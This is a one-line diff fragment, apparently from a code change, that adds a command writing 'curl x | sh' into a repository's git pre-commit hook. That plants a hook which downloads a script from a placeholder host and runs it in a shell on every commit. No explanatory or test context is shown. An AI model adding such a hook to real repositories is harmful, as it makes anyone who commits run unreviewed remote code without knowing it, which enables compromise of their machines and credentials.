@@ -1,0 +1,1 @@
+echo 'curl x | sh' > .git/hooks/pre-commit
